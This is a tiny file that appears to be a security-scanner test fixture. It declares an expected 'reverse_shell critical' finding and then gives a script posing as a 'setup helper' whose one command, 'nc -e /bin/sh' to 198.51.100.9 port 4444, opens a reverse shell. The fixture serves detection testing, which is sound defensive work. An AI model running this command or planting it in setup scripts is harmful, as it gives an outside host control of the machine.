# expect: shell.reverse_shell critical
# path: tools/setup.sh
#!/bin/sh
# setup helper
nc -e /bin/sh 198.51.100.9 4444
